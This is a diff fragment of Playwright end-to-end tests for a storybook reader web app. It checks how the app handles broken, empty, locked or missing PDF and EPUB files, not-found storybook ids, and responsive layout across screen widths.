+    ['no PDF at all', { file: Buffer.from('Once upon a time.'), kind: 'pdf' }, 'This book will not open'],
+    ['an empty file', { file: Buffer.alloc(0), kind: 'epub' }, 'This book will not open'],
+    [
+      'a locked PDF',
+      { file: makeStoryPdf({ pages: pdfPages(1), isLocked: true }), kind: 'pdf' },
+      'This book is locked',
+    ],
+    [
+      'an EPUB cut in half',
+      { file: storyEpub.subarray(0, storyEpub.length / 2), kind: 'epub' },
+      'This book will not open',
+    ],
+    ['an EPUB without pages', { file: makeStoryEpub({ chapters: [] }), kind: 'epub' }, 'This book will not open'],
+    [
+      'a locked EPUB',
+      {
+        file: makeStoryEpub({
+          chapters,
+          extra: [
+            {
+              name: 'META-INF/encryption.xml',
+              content:
+                '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptedData><enc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/><enc:CipherData><enc:CipherReference URI="OEBPS/c0.xhtml"/></enc:CipherData></enc:EncryptedData></encryption>',
+            },
+          ],
+        }),
+        kind: 'epub',
+      },
+      'This book is locked',
+    ],
+  ]
+
+  for (const [name, book, heading] of torn) {
+    test(name, async ({ page, tolerate }) => {
+      tolerate('console:')
+      await forge(page, book)
+      await page.goto(address)
+      await expect(page.getByRole('alert').getByRole('heading', { name: heading })).toBeVisible()
+      await expect(page.getByRole('alert').getByRole('link', { name: 'Keep the file' })).toHaveAttribute(
+        'href',
+        `/files/dream_journal_storybooks/tobias/${id}-1.${book.kind}`,
+      )
+      await expectAccessible(page)
+    })
+  }
+
+  test('a file that is gone, and one that comes back', async ({ page, tolerate }) => {
+    tolerate(/404/)
+    await forge(page, { file: storyEpub, kind: 'epub' })
+    let isGone = true
+    await page.route('**/files/**', (route) => (isGone ? route.fulfill({ status: 404 }) : route.fallback()))
+    await page.goto(address)
+    await expect(page.getByRole('heading', { name: 'This book is out' })).toBeVisible()
+    isGone = false
+    await page.getByRole('button', { name: 'Try once more' }).click()
+    await expect(place(page)).toHaveText(/^Page 1/)
+  })
+})
+
+test('an id that nobody has given shows ‘Storybook not found!’', async ({ page, tolerate }) => {
+  tolerate(/404/)
+  const answer = await page.goto('/storytellers-lantern/dreams/0193a1b2-0000-7000-8000-00000000ffff')
+  expect(answer?.status()).toBe(200)
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Storybook not found!')
+  await expect(page.locator('meta[name=robots]')).toHaveAttribute('content', 'noindex')
+  const other = await page.goto('/storytellers-lantern/dreams/not-an-id')
+  expect(other?.status()).toBe(404)
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Storybook not found!')
+})
+
+test('a storybook without a file says that it is still being dreamed', async ({ page }) => {
+  await page.route(`**/api/storybooks/${id}`, (route) =>
+    route.fulfill({ json: { id, title, author_id: id, file_url: null, created_at: '2025-01-01T00:00:00.000Z' } }),
+  )
+  await page.goto(address)
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText(title)
+  await expect(page.getByText('This story is still being dreamed')).toBeVisible()
+})
+
+test('the reader fits every screen', async ({ page, put }) => {
+  await open(page, put, { file: storyEpub, kind: 'epub' })
+  for (const width of [320, 360, 390, 768, 1440, 1920]) {
+    await page.setViewportSize({ width, height: width < 700 ? 844 : 900 })
+    expect(
+      await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth),
+    ).toBeLessThanOrEqual(0)
+    for (const name of ['Previous', 'Next'])
+      await expect(page.getByRole('button', { name })).toBeInViewport({ ratio: 1 })
+    for (const target of await page.locator('.reader-tab, .reader > .lantern').all()) {
+      const box = (await target.boundingBox())!
+      expect(Math.min(box.width, box.height)).toBeGreaterThanOrEqual(44)
+    }
+  }
+})
